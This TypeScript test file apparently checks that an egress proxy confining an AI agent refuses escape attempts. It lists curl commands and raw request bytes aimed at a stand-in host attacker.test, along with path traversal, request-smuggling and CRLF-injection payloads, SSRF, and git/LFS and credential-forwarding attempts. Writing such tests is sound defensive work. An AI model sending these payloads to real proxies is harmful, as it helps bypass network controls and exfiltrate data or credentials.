import { type Attack, OPEN_PROXY, OUTWARD } from '../attack.ts';

const GET = 'GET http://plain.test/ HTTP/1.1\\r\\nHost: plain.test\\r\\n';
const END = 'Connection: close\\r\\n\\r\\n';

/** The same bytes to the proxy, which reads them in another way than the attacker hopes. */
function bytes(name: string, format: string, told: RegExp, trace: RegExp, gains = '"url":"/$N"'): Attack {
  return { name, script: `say $EGRESS '${format}'`.replaceAll('$N', `'$N'`), gains, told, trace, twin: OPEN_PROXY };
}

/** To a host, a port, a path that no route names, by way of the proxy. */
export const PROXY: readonly Attack[] = [
  {
    name: 'a host that no route names is refused',
    script: 'curl -sS -m 10 https://attacker.test/$N',
    gains: '"url":"/$N"',
    told: /egress: no route allows the host/,
    trace: /^egress .*host-not-allowed.*attacker\.test/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a path that no route names is refused',
    script: 'curl -sS -m 10 https://origin.test/admin/$N',
    gains: '"url":"/admin/$N"',
    told: /egress: .*path/,
    trace: /^egress .*path-not-allowed/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a path with dots does not lead out of an allowed one',
    script:
      'for dots in .. %2e%2e .%2e ..%2f..; do curl -sS -m 10 --path-as-is https://origin.test/v1/$dots/admin/$N; done',
    gains: '/admin/$N"',
    told: /egress: /,
    trace: /^egress .*path-ambiguous/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a header that rewrites the path is refused',
    script: 'curl -sS -m 10 https://origin.test/v1/ -H X-Original-URL:/admin/$N',
    gains: '/admin/$N"',
    told: /egress: .*X-Original-URL/i,
    trace: /^egress .*rewriting-header/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a scheme that no route names is refused',
    script: 'curl -sS -m 10 http://origin.test/v1/$N',
    gains: '"url":"/v1/$N"',
    told: /egress: .*http/,
    trace: /^egress .*(scheme|port)-not-allowed/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a name that is allowed and leads to a private address is refused',
    script: 'curl -sS -m 10 http://inner.test/$N',
    gains: '"url":"/$N"',
    told: /blocked: SSRF/,
    trace: /^pipelock .*SSRF.*inner\.test|^pipelock .*inner\.test.*SSRF/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a redirect of an allowed host to another is judged as the other',
    script: "curl -sS -m 10 -L 'https://origin.test/redirect?to=https://attacker.test/'$N",
    gains: '"url":"/$N"',
    told: /egress: no route allows the host/,
    trace: /^egress .*host-not-allowed.*attacker\.test/,
    twin: OPEN_PROXY,
  },
  bytes(
    'a tunnel to a host that no route names carries nothing',
    'CONNECT attacker.test:4444 HTTP/1.1\\r\\nHost: attacker.test:4444\\r\\n\\r\\n$N',
    /HTTP\/1\.1 4\d\d |^HTTP\/1\.1 200 /,
    /^egress .*egress_blocked.*attacker\.test/,
    '$N',
  ),
  bytes(
    'a tunnel to another port of an allowed host carries nothing',
    'CONNECT origin.test:4444 HTTP/1.1\\r\\nHost: origin.test:4444\\r\\n\\r\\n$N',
    /HTTP\/1\.1 4\d\d |^HTTP\/1\.1 200 /,
    /^egress .*egress_blocked.*origin\.test/,
    '$N',
  ),
  bytes(
    'a tunnel to an allowed host carries no other protocol',
    'CONNECT plain.test:80 HTTP/1.1\\r\\nHost: plain.test:80\\r\\n\\r\\nSSH-2.0-$N\\r\\n',
    /^HTTP\/1\.1 200 /,
    /^egress .*egress_blocked/,
    'SSH-2.0-$N',
  ),
  {
    name: 'a tunnel whose TLS names another server carries nothing',
    script: `printf "GET /v1/$N HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n" | tunnel origin.test:443 attacker.test`,
    gains: '"url":"/v1/$N"',
    told: /421|alert|refused|egress: /,
    trace: /^egress .*misdirected/,
    twin: OPEN_PROXY,
  },
  {
    name: 'a request whose Host is not the host of the tunnel is refused',
    script: "curl -sS -m 10 https://origin.test/v1/$N -H 'Host: attacker.test'",
    gains: '"url":"/v1/$N"',
    told: /egress: the Host header/,
    trace: /^egress .*misdirected/,
    twin: OPEN_PROXY,
  },
  {
    name: 'HTTP/2 does not carry a request for another authority on one connection',
    script: "curl -sS -m 10 --http2 https://origin.test/v1/$N -H 'Host: attacker.test'",
    gains: '"url":"/v1/$N"',
    told: /egress: |stream/i,
    trace: /^egress .*misdirected/,
    twin: OPEN_PROXY,
  },
  {
    name: 'HTTP/2 without TLS is not spoken at the port of the proxy',
    script: 'curl -sS -m 5 --noproxy "*" --http2-prior-knowledge http://$EGRESS/$N -H "Host: attacker.test"',
    gains: '"url":"/$N"',
    told: /exit (1|8|16|52|55|56|92)$|exit 0$/,
    trace: /^egress .*egress_blocked/,
    twin: { ...OUTWARD, script: 'curl -sS -m 5 http://$OUT/$N -H "Host: attacker.test"' },
  },
  {
    name: 'the target of a request counts, not its Host',
    script: 'curl -sS -m 10 --request-target http://attacker.test/$N http://plain.test/',
    gains: '"url":"/$N"',
    told: /egress: /,
    trace: /^egress .*(host-not-allowed|malformed|host)/,
    twin: OPEN_PROXY,
  },
  bytes(
    'a host behind user information is the host',
    `GET http://plain.test@attacker.test/$N HTTP/1.1\\r\\nHost: plain.test\\r\\n${END}`,
    /^HTTP\/1\.1 40[03] /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'a host behind a backslash, a fragment, a tab is not reached',
    `GET http://plain.test\\\\@attacker.test/$N HTTP/1.1\\r\\nHost: plain.test\\r\\n${END}`,
    /^HTTP\/1\.1 40[03] /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'a second request on the same connection is judged by itself',
    `${GET}\\r\\nGET http://attacker.test/$N HTTP/1.1\\r\\nHost: attacker.test\\r\\n${END}`,
    /egress: /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'no request is smuggled behind Content-Length and Transfer-Encoding',
    `POST http://plain.test/v1 HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://attacker.test/$N HTTP/1.1\\r\\nHost: attacker.test\\r\\n${END}`,
    /^HTTP\/1\.1 400 /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'no request is smuggled behind a Transfer-Encoding in disguise',
    `POST http://plain.test/v1 HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding : xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://attacker.test/$N HTTP/1.1\\r\\nHost: attacker.test\\r\\n${END}`,
    /^HTTP\/1\.1 400 /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'no request is smuggled behind two lengths',
    `POST http://plain.test/v1 HTTP/1.1\\r\\nHost: plain.test\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\nGET http://attacker.test/$N HTTP/1.1\\r\\nHost: attacker.test\\r\\n${END}`,
    /^HTTP\/1\.1 400 /,
    /^egress .*egress_blocked/,
  ),
  bytes(
    'no line is injected into a request',
    `GET http://plain.test/a%%0d%%0aGET%%20http://attacker.test/$N HTTP/1.1\\r\\nHost: plain.test\\r\\n${END}`,
    /^HTTP\/1\.1 400 /,
    /^egress .*path-ambiguous/,
    'attacker.test/$N',
  ),
  {
    name: 'a WebSocket to a host that no route names is refused',
    script: 'python3 /attack/websocket.py attacker.test $N',
    gains: 'heard 1 heard $N',
    told: /403|421/,
    trace: /^egress .*host-not-allowed.*attacker\.test/,
    twin: OPEN_PROXY,
  },
  {
    name: 'git over HTTPS goes around the gate, and is refused: clone',
    script: 'git clone --quiet https://origin.test/git/project.git /tmp/$N && echo cloned',
    gains: 'cloned',
    told: /403|git-gate/,
    trace: /^egress .*git-over-https/,
    twin: OPEN_PROXY,
  },
  {
    name: 'git over HTTPS goes around the gate, and is refused: push',
    script: 'git -C /tmp/project.git push --quiet https://origin.test/git/project.git main:refs/heads/$N',
    gains: 'refs/heads/$N',
    told: /403|git-gate/,
    trace: /^egress .*git-over-https/,
    twin: OPEN_PROXY,
  },
  {
    name: 'Git LFS goes around the gate, and is refused',
    script:
      'curl -sS -m 10 https://origin.test/git/project.git/info/lfs/objects/batch -H "Content-Type: application/vnd.git-lfs+json" -d "{\\"operation\\":\\"upload\\",\\"n\\":\\"$N\\"}"',
    gains: '/info/lfs/objects/batch',
    told: /egress: /,
    trace: /^egress .*git-over-https/,
    twin: { ...OPEN_PROXY, script: 'curl -sS -m 10 https://origin.test/v1/info/lfs/objects/batch -d x' },
  },
  {
    name: 'an upload pack by git:// to a host outside does not leave',
    script: 'timeout 5 git -c core.gitProxy= ls-remote git://upstream.test/project.git && echo listed',
    gains: 'listed',
    told: /exit (124|128)$/,
    trace: { none: 'there is no route: the kernel drops it before anybody could log' },
    twin: OUTWARD,
  },
  {
    name: 'nothing says to whom a credential belongs: an agent cannot have it put into a request to another',
    script:
      'curl -sS -m 10 http://plain.test/echo -H "Authorization: Bearer mine"; curl -sS -m 10 -o /dev/null https://attacker.test/$N',
    gains: '"authorization":"Bearer $CREDENTIAL"',
    told: /egress: |exit 0/,
    trace: /^egress .*attacker\.test/,
    twin: {
      without: 'the routes: the credential is asked for where it belongs, and the answer comes past egress',
      at: 'agent with an open proxy',
      script: 'curl -sS -m 10 https://origin.test/echo -H "Authorization: Bearer $CREDENTIAL"',
    },
  },
  {
    name: 'a credential that an allowed host sends back in a header reaches the agent as stars',
    script: 'curl -sS -m 10 -D - -o /dev/null https://origin.test/echo',
    gains: 'x-echo: Bearer $CREDENTIAL',
    told: /x-echo: Bearer \*+/i,
    trace: { none: 'the answer passes, without the credential; log level 2 shows it' },
    twin: {
      ...OPEN_PROXY,
      script: 'curl -sS -m 10 -D - -o /dev/null https://origin.test/echo -H "Authorization: Bearer $CREDENTIAL"',
    },
  },
];
